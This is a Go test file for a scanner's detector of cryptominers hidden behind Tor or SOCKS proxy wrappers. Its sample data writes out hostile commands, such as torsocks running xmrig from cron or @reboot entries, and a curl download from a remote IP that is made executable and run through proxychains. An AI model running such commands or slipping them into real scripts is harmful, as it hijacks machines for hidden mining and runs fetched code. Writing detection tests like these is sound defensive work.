package anonymizer

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/safepull/safepull/trust"
	"github.com/safepull/safepull/trust/indicator"
	"github.com/safepull/safepull/trust/indicator/indicatortest"
)

func shipped(t testing.TB) *Indicator {
	t.Helper()
	ind, err := New(rules(t))
	if err != nil {
		t.Fatal(err)
	}
	return ind
}

func TestShapes(t *testing.T) {
	t.Parallel()
	script, text, config, data := trust.KindScript, trust.KindText, trust.KindConfig, trust.KindData
	indicatortest.Shapes(t, shipped(t), []indicatortest.Sample{
		{Name: "full-path", Path: "a.sh", Kind: script, Content: "/usr/bin/torsocks -i /opt/xmrig -c /c\n", Want: trust.Strong},
		{Name: "chain-of-prefixes", Path: "a.sh", Kind: script, Content: "sudo nohup nice -n 19 torsocks ./xmrig -c /c &\n", Want: trust.Strong},
		{Name: "wrapped-twice", Path: "a.sh", Kind: script, Content: "torsocks proxychains4 -q ./xmrig -o x\n", Want: trust.Strong},
		{Name: "in-a-loop", Path: "a.sh", Kind: script, Content: "while true; do torsocks ./xmrig -c /c; sleep 5; done\n", Want: trust.Strong},
		{Name: "in-a-function", Path: "a.sh", Kind: script, Content: "run() { torsocks ./xmrig -c /c; }\nrun\n", Want: trust.Strong},
		{Name: "after-or", Path: "a.sh", Kind: script, Content: "pgrep x || torsocks ./xmrig -c /c\n", Want: trust.Strong},
		{Name: "in-a-subshell", Path: "a.sh", Kind: script, Content: "(torsocks ./xmrig -c /c) &\n", Want: trust.Strong},
		{Name: "continued", Path: "a.sh", Kind: script, Content: "torsocks \\\n  ./xmrig \\\n  -c /c\n", Want: trust.Strong},
		{Name: "windows-lines", Path: "a.sh", Kind: script, Content: "torsocks ./xmrig -c /c\r\n", Want: trust.Strong},
		{Name: "exported-proxy", Path: "a.sh", Kind: script, Content: "all_proxy=socks5://127.0.0.1:9050 nohup ./xmrig -c /c &\n", Want: trust.Strong},
		{Name: "bash-c-double-quotes", Path: "a.sh", Kind: script, Content: "bash -c \"cd /opt && torsocks ./xmrig -o x\"\n", Want: trust.Strong},
		{Name: "su", Path: "a.sh", Kind: script, Content: "su-exec nobody torsocks /opt/xmrig -c /c\n", Want: trust.Strong},
		{Name: "made-executable", Path: "a.sh", Kind: script, Content: "curl -s http://203.0.113.7/k -o /dev/shm/k\nchmod +x /dev/shm/k\nproxychains4 /dev/shm/k\n", Want: trust.Proof},
		{Name: "javascript", Path: "a.js", Kind: script, Content: "spawn('torsocks', ['/opt/worker', '--nicehash'])\n", Want: trust.Strong},
		{Name: "php", Path: "a.php", Kind: script, Content: "<?php exec('torsocks /opt/xmrig -c /c > /dev/null &');\n", Want: trust.Strong},
		{Name: "cron", Path: "etc/cron.d/a", Kind: text, Content: "@reboot root torsocks /opt/xmrig -c /c\n", Want: trust.Strong},
		{Name: "cmd-list", Path: "config:command", Kind: config, Content: `torsocks /opt/xmrig`, Want: trust.Strong},
		{Name: "cron-of-a-user", Path: "var/spool/cron/x", Kind: text, Content: "*/5 1-3 * * * torsocks /opt/xmrig -c /c\n", Want: trust.Strong},
		{Name: "sudo-as-somebody", Path: "a.sh", Kind: script, Content: "sudo -u nobody -g nogroup torsocks /opt/xmrig -c /c\n", Want: trust.Strong},
		{Name: "password", Path: "a.sh", Kind: script, Content: "torsocks -u a -p b /opt/xmrig -c /c\n", Want: trust.Strong},
		{Name: "compose", Path: "docker-compose.yml", Kind: text, Content: "command: [\"proxychains4\", \"/opt/xmrig\", \"-c\", \"/c\"]\n", Want: trust.Strong},
		{Name: "in-data", Path: "opt/blob", Kind: data, Content: "\x01\x02\ntorsocks ./xmrig -c /c\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "example", Path: "usr/share/doc/x/examples/a.sh", Kind: script, Content: "torsocks ./xmrig -c /c\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "supervisor-text", Path: "etc/supervisor/conf.d/a.conf", Kind: text, Content: "[program:a]\ncommand=torsocks /opt/xmrig -c /c\n", Want: trust.Strong},
	}, []indicatortest.Twin{
		{Name: "proxied-package-manager", Path: "a.sh", Kind: script, Content: "proxychains4 apt-get update\ntorsocks pip install x\nall_proxy=socks5://127.0.0.1:1080 git clone x\n"},
		{Name: "proxied-ssh", Path: "a.sh", Kind: script, Content: "torsocks ssh user@x.onion\ntorify ssh -p 22 x\n"},
		{Name: "shell-through-tor", Path: "a.sh", Kind: script, Content: "torsocks --shell\ntorsocks on\ntorsocks show\n"},
		{Name: "which", Path: "a.sh", Kind: script, Content: "command -v torsocks >/dev/null || echo 'install torsocks /first'\n"},
		{Name: "test", Path: "a.sh", Kind: script, Content: "if [ -x /usr/bin/torsocks ]; then echo yes; fi\n"},
		{Name: "copied", Path: "a.sh", Kind: script, Content: "cp /usr/bin/torsocks /opt/bin/torsocks\nchmod 755 /opt/bin/torsocks\n"},
		{Name: "removed", Path: "config:history[2]", Kind: config, Content: "RUN apt-get purge -y torsocks proxychains4 /opt/x"},
		{Name: "printed", Path: "a.sh", Kind: script, Content: "printf 'torsocks ./xmrig\\n'\nprint \"torsocks ./xmrig\"\n"},
		{Name: "commented", Path: "a.sh", Kind: script, Content: "  # torsocks ./xmrig -o x\n"},
		{Name: "list-of-proxies", Path: "proxies.txt", Kind: text, Content: strings.Repeat("socks5://203.0.113.1:1080\n", 40)},
		{Name: "variable-of-another-kind", Path: "a.sh", Kind: script, Content: "BASE_PROXY=socks5://127.0.0.1:9050 ./server\n"},
		{Name: "proxy-over-http", Path: "a.sh", Kind: script, Content: "ALL_PROXY=http://proxy.acme.dev:3128 ./server\n"},
		{Name: "setting-of-a-client", Path: "c.yml", Kind: text, Content: "proxy: socks5://127.0.0.1:9050\nmode: torsocks\n"},
	})
}

// What stands before and behind a wrapper, word by word.
func TestWrapped(t *testing.T) {
	t.Parallel()
	ind := shipped(t)
	for line, want := range map[string]string{
		"torsocks a b":                       "a",
		"torsocks -i a b":                    "a",
		"nice -n 5 torsocks a":               "a",
		"A=1 B=2 torsocks a":                 "a",
		"env A=1 torsocks a":                 "a",
		"timeout 30s torsocks a":             "a",
		"torsocks sudo -u x nohup a":         "a",
		"torsocks env A=1 a":                 "a",
		"torsocks -f /etc/p.conf a":          "a",
		"torsocks":                           "",
		"sudo -u x torsocks a":               "a",
		"gosu x torsocks a":                  "a",
		"x -u torsocks a":                    "-",
		"torsocks torify -q a":               "a",
		"torsocks -q":                        "",
		"ALL_PROXY=socks5h://127.0.0.1:9 a":  "a",
		"cat torsocks a":                     "-",
		"x=torsocks a":                       "-",
		"ALL_PROXY=http://127.0.0.1:9 a":     "-",
		"/opt/torsocks/bin/other a":          "-",
		"echo torsocks a":                    "-",
		"apt-get install torsocks a":         "-",
		"no_proxy=socks5h://127.0.0.1:9 a":   "-",
		"tool --with=torsocks ./a":           "-",
		"PROXY=socks5://127.0.0.1:9 x tor a": "-",
	} {
		got := "-"
		at := strings.Index(line, "torsocks")
		if i := strings.Index(line, "socks5"); at < 0 && i >= 0 {
			at = i
		}
		for _, c := range calls([]byte(line), max(at, 0)) {
			for i := range c {
				if rest, ok := ind.wrapped(c, i); ok {
					got, _ = ind.program(rest)
				}
			}
		}
		if got != want {
			t.Errorf("%s: starts %q, want %q", line, got, want)
		}
	}
}

func TestShell(t *testing.T) {
	t.Parallel()
	for line, want := range map[string][]string{
		"a b c":                       {"a b c"},
		"a; b && c || d":              {"a", "b", "c", "d"},
		"A=1 b 'c d' \"e\"":           {"A=1 b c d e"},
		"if a; then b; else c; fi":    {"a", "b", "c"},
		"sh -c 'a b; c'":              {"a b", "c", "sh -c"},
		"for i in 1 2; do a $i; done": {"a $i"},
		"a $(b c)":                    {"a $(b c)", "b c"},
		"a | b > c":                   {"a", "b"},
		"# a b":                       nil,
	} {
		commands, ok := shell([]byte(line), 0)
		if !ok {
			t.Errorf("%s: no shell", line)
		}
		var got []string
		for _, c := range commands {
			var words []string
			for _, w := range c {
				words = append(words, w.Text)
				if w.At < 0 || w.At >= len(line) {
					t.Errorf("%s: %q at %d", line, w.Text, w.At)
				}
			}
			if !c[0].Opens {
				t.Errorf("%s: %q does not open", line, words)
			}
			got = append(got, strings.Join(words, " "))
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%s: %s", line, diff)
		}
	}
	for _, line := range []string{"if a; then", "a 'b", "a $(b", "fi", "a )"} {
		if c, ok := shell([]byte(line), 0); ok {
			t.Errorf("%s: got %v", line, c)
		}
	}
}

func TestLogicalLine(t *testing.T) {
	t.Parallel()
	text := "one\ntwo \\\n three \\\n four\nfive"
	for at, want := range map[int]string{0: "one", 2: "one", 4: "two \\\n three \\\n four", 12: "two \\\n three \\\n four", 20: "two \\\n three \\\n four", len(text) - 1: "five"} {
		line, start := logicalLine([]byte(text), at)
		if string(line) != want || text[start:start+len(line)] != want {
			t.Errorf("%d: got %q at %d, want %q", at, line, start, want)
		}
	}
	long := []byte(strings.Repeat("x \\\n", 4*maxLine))
	if line, _ := logicalLine(long, len(long)/2); len(line) > 2*maxLine {
		t.Errorf("reads %d bytes", len(line))
	}
	if line, start := logicalLine([]byte("\n\n"), 1); len(line) != 0 || start != 1 {
		t.Errorf("empty line: %q at %d", line, start)
	}
}

// Hostile shell text neither panics nor takes long.
func TestHostileShell(t *testing.T) {
	t.Parallel()
	ind := shipped(t)
	for _, content := range []string{
		"torsocks", "torsocks\\", "\\\ntorsocks", "torsocks ${", "torsocks $(((((", strings.Repeat("torsocks $(", 3000), strings.Repeat("{ ", 4000) + "torsocks a",
		"torsocks '" + strings.Repeat("\\\n", 9000), "=socks5h://", "ALL_PROXY=socks5h://127.0.0.1:9050", "torsocks \xff\xfe\x00 a", "torsocks <<E\na",
	} {
		file := indicator.File{Path: "a.sh", Kind: trust.KindScript}
		whole := indicatortest.Inspect(ind, file, []byte(content), indicatortest.Drive{})
		if diff := cmp.Diff(whole, indicatortest.Inspect(ind, file, []byte(content), indicatortest.Drive{Chunk: 5, Slack: 99})); diff != "" {
			t.Errorf("%.40q: %s", content, diff)
		}
	}
}

func TestNewSaysWhatIsWrong(t *testing.T) {
	t.Parallel()
	for name, test := range map[string]struct {
		change func(*Rules)
		want   string
	}{
		"wrappers":  {func(r *Rules) { r.Wrappers = nil }, "must not be empty"},
		"variables": {func(r *Rules) { r.Variables = nil }, "must not be empty"},
		"miners":    {func(r *Rules) { r.Miners = nil }, "must not be empty"},
		"options":   {func(r *Rules) { r.Options = nil }, "must not be empty"},
		"proxy":     {func(r *Rules) { r.Proxies = []string{"socks"} }, `"socks" is shorter than 6 bytes`},
	} {
		r := rules(t)
		test.change(&r)
		if _, err := New(r); err == nil || !strings.HasPrefix(err.Error(), "anonymizer rules: ") || !strings.Contains(err.Error(), test.want) {
			t.Errorf("%s: got %v, want %s", name, err, test.want)
		}
	}
}
